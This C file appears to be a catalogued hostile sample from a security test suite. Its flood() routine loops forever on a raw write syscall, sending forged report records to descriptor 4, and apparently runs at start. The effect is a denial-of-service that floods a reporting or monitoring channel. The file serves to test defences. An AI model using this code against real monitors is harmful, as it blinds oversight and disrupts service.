// Attack: reports without end
// Threat: F.3 #42
// Gets: below
// Code: FORGED
// Machine: x86_64
// Rest: rest.c
#include <stdint.h>
#define HIDDEN
static long hidden(int number, long a, long b, long c);
static void flood(void)
{
    static struct {
        uint16_t type, what;
        uint32_t who;
        int64_t a, b, t;
    } tells[1024];
    for (int i = 0; i < 1024; i++)
        tells[i].type = 5, tells[i].what = 16;
    for (;;)
        hidden(1, 4, (long)tells, sizeof(tells));
}
#define AT_OPEN flood()
